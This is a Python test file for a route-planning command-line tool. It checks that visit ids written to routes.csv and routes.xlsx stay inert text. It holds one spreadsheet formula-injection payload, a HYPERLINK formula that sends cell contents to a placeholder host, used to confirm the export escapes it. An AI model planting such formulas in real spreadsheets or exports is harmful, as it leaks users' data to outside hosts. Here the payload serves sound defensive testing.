"""`routeplan plan` writes routes.csv and routes.xlsx together; ids from the input stay text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from tests.cli.test_cli import run

EVIL = '=HYPERLINK("http://x/"&A1,"x")'


def test_plan_writes_a_safe_csv_and_an_xlsx_beside_it(tmp_path: Path) -> None:
    day = tmp_path / "day"
    done = run("synth", "--prefecture", "郑州市", "--visits", "12", "--teams", "2",
               "--seed", "5", "--out", day)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO((day / "visits.csv").read_text(encoding="utf-8-sig"))))
    rows[1][0] = EVIL  # the first visit's id
    with (day / "visits.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    out = tmp_path / "out"
    done = run("plan", "--visits", day / "visits.csv", "--teams", day / "teams.csv",
               "--date", "2026-12-01", "--out", out, "--time-limit", "1")
    assert done.returncode == 0, done.stderr
    assert f"wrote {out / 'routes.xlsx'}" in done.stdout

    sheet = list(csv.DictReader(io.StringIO(
        (out / "routes.csv").read_text(encoding="utf-8-sig"))))
    ids = {r["visit_id"] for r in sheet}
    assert "'" + EVIL in ids and EVIL not in ids
    ws = load_workbook(out / "routes.xlsx").active
    assert ws is not None
    values = list(ws.iter_rows(values_only=True))
    assert values[0][:4] == ("外访组", "组员", "顺序", "案件编号")
    assert {row[3] for row in values[1:]} == {i.removeprefix("'") for i in ids}
    cell = next(row[3] for row in ws.iter_rows(min_row=2) if row[3].value == EVIL)
    assert cell.data_type == "s" and cell.quotePrefix
